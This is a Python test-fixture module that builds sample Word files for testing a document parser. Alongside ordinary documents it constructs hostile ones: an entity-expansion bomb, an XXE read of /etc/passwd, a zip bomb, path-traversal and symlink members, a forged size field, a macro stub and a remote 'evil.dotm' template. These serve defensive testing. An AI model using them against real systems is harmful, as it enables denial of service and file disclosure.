"""Word documents, good and bad, and the zip container that holds them."""

import io
import struct
import zipfile
from xml.sax.saxutils import escape

from tests.documents.samples.words import RESUME

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
Members = dict[str, bytes]


def archive(members: Members, *, stored: tuple[str, ...] = ()) -> bytes:
    """Return a zip with `members` in their order, dated 1980, those in `stored` uncompressed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bag:
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            bag.writestr(info, data)
    return out.getvalue()


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XML = '<?xml version="1.0" encoding="UTF-8"?>\n'


def content_types(main: str, part: str) -> bytes:
    """Return the part that says what the other parts are."""
    return (
        f'{XML}<Types xmlns="{TYPES}">'
        '<Default Extension="rels"'
        ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{main}"/></Types>'
    ).encode()


def relationships(*entries: tuple[str, str, bool]) -> bytes:
    """Return the part that ties others together: kind, target, whether it is outside."""
    mode = {True: ' TargetMode="External"', False: ""}
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{REL}/{kind}" Target="{escape(target)}"'
        f"{mode[external]}/>"
        for number, (kind, target, external) in enumerate(entries, 1)
    )
    return f'{XML}<Relationships xmlns="{RELS}">{rows}</Relationships>'.encode()


def _word_body(text: str) -> str:
    runs = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{escape(line)}</w:t></w:r></w:p>'
        for line in text.splitlines()
    )
    return f'<w:document xmlns:w="{W}" xmlns:r="{REL}"><w:body>{runs}</w:body></w:document>'


def docx_members(text: str = RESUME, *, body: str = "", main: str = MAIN) -> Members:
    """Return the parts of a Word document; `body` replaces the whole main part."""
    return {
        "[Content_Types].xml": content_types(main, "word/document.xml"),
        "_rels/.rels": relationships(("officeDocument", "word/document.xml", False)),
        "word/document.xml": (XML + (body or _word_body(text))).encode(),
    }


def docx(text: str = RESUME) -> bytes:
    """Return a Word document with one paragraph a line."""
    return archive(docx_members(text))


def laid_out_docx() -> bytes:
    """Return a Word document with headings, a list, bold and italic words and a table."""

    def styled(style: str, runs: str) -> str:
        return f'<w:p><w:pPr><w:pStyle w:val="{style}"/></w:pPr>{runs}</w:p>'

    def run(words: str, mark: str = "") -> str:
        return f'<w:r><w:rPr>{mark}</w:rPr><w:t xml:space="preserve">{words}</w:t></w:r>'

    def item(words: str) -> str:
        number = '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>'
        return f"<w:p><w:pPr>{number}</w:pPr>{run(words)}</w:p>"

    def row(*cells: str) -> str:
        return f"<w:tr>{''.join(f'<w:tc><w:p>{run(c)}</w:p></w:tc>' for c in cells)}</w:tr>"

    body = (
        styled("Heading1", run("Marisol Quennell"))
        + styled("Heading3", run("Skills"))
        + item("Story times")
        + item("Inventory &lt;script&gt;alert(1)&lt;/script&gt;")
        + f"<w:p>{run('Very ')}{run('patient', '<w:b/>')}"
        + f"{run(' and ')}{run('kind', '<w:i/>')}</w:p>"
        + f"<w:tbl>{row('Year', 'Employer')}{row('2021', 'Fairhaven Town Library')}</w:tbl>"
    )
    parts = docx_members(
        body=f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>',
    )
    level = '<w:lvl w:ilvl="0"><w:numFmt w:val="bullet"/><w:lvlText w:val="-"/></w:lvl>'
    parts["word/numbering.xml"] = (
        f'{XML}<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0">{level}'
        '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    ).encode()
    parts["word/styles.xml"] = (
        f'{XML}<w:styles xmlns:w="{W}">'
        + "".join(
            f'<w:style w:type="paragraph" w:styleId="Heading{n}"><w:name w:val="heading {n}"/>'
            f'<w:pPr><w:outlineLvl w:val="{n - 1}"/></w:pPr></w:style>'
            for n in (1, 2, 3)
        )
        + "</w:styles>"
    ).encode()
    parts["word/_rels/document.xml.rels"] = relationships(
        ("numbering", "numbering.xml", False), ("styles", "styles.xml", False)
    )
    return archive(parts)


def macro_docx() -> bytes:
    """Return a Word document that carries a macro project under an innocent name."""
    return archive(docx_members() | {"word/vbaProject.bin": OLE_MAGIC + bytes(600)})


def external_docx(target: str = "https://example.org/evil.dotm") -> bytes:
    """Return a Word document whose template is fetched from elsewhere when it is opened."""
    links = relationships(("hyperlink", "https://example.org/", True))
    settings = relationships(("attachedTemplate", target, True))
    return archive(
        docx_members()
        | {
            "word/_rels/document.xml.rels": links,
            "word/settings.xml": f'{XML}<w:settings xmlns:w="{W}"/>'.encode(),
            "word/_rels/settings.xml.rels": settings,
        }
    )


def linking_docx() -> bytes:
    """Return a Word document with a link to a home page and nothing else that leads out."""
    links = relationships(("hyperlink", "https://example.org/marisol", True))
    return archive(docx_members() | {"word/_rels/document.xml.rels": links})


def field_docx(order: str) -> bytes:
    """Return a Word document with a field, which Word brings up to date on opening or asking."""
    field = f'<w:p><w:r><w:instrText xml:space="preserve"> {order} </w:instrText></w:r></w:p>'
    return archive(docx_members(body=_word_body(RESUME).replace("<w:body>", f"<w:body>{field}")))


def embedding_docx() -> bytes:
    """Return a Word document with a workbook inside."""
    workbook = archive({"xl/workbook.xml": b"<workbook/>"})
    return archive(docx_members() | {"word/embeddings/Book1.xlsx": workbook})


def xml_bomb_docx() -> bytes:
    """Return a Word document whose entities would grow into ten thousand million words."""
    levels = ['<!ENTITY a0 "words ">'] + [
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11)
    ]
    body = _word_body("X").replace(">X<", ">&a10;<")
    return archive(docx_members(body=f"<!DOCTYPE w:document [{''.join(levels)}]>{body}"))


def xml_bomb_utf16_docx() -> bytes:
    """Return the same trap with the letters two bytes wide, where a search for text misses it."""
    body = '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + _word_body("X")
    text = '<?xml version="1.0" encoding="UTF-16"?>' + body.replace(">X<", ">&a;<")
    return archive(docx_members() | {"word/document.xml": text.encode("utf-16")})


def zip_bomb_docx(megabytes: int = 300) -> bytes:
    """Return a Word document with a part that grows a thousandfold when it is unpacked."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bag:
        for name, data in docx_members().items():
            bag.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
        with bag.open("word/media/image1.bin", "w") as part:
            for _ in range(megabytes):
                part.write(bytes(1 << 20))
    return out.getvalue()


def crowded_docx(members: int = 6000) -> bytes:
    """Return a Word document with thousands of tiny parts."""
    return archive(docx_members() | {f"word/media/{n}.xml": b"<x/>" for n in range(members)})


def lying_docx() -> bytes:
    """Return a Word document whose directory gives a part's size as 10 bytes; it has 1 MB."""
    name = "word/media/image1.bin"
    data = bytearray(archive(docx_members() | {name: bytes(1 << 20)}))
    entry = data.rindex(b"PK\x01\x02", 0, data.rindex(name.encode()))
    struct.pack_into("<L", data, entry + 24, 10)
    return bytes(data)


def escaping_docx(name: str = "../../outside.xml") -> bytes:
    """Return a Word document with a part that would be unpacked outside its folder."""
    return archive(docx_members() | {name: b"<x/>"})


def symlink_docx() -> bytes:
    """Return a Word document with a part that is a symbolic link to /etc/passwd."""
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as bag:
        info = zipfile.ZipInfo("word/link.xml")
        info.create_system = 3
        info.external_attr = 0o120777 << 16
        bag.writestr(info, "/etc/passwd")
    return out.getvalue()


def doubled_docx() -> bytes:
    """Return a Word document with two main parts of one name: two readers, two resumes."""
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as bag:
        bag.testzip()
        bag.NameToInfo.pop("word/document.xml")
        bag.writestr(zipfile.ZipInfo("word/document.xml"), XML + _word_body("Someone else"))
    return out.getvalue()
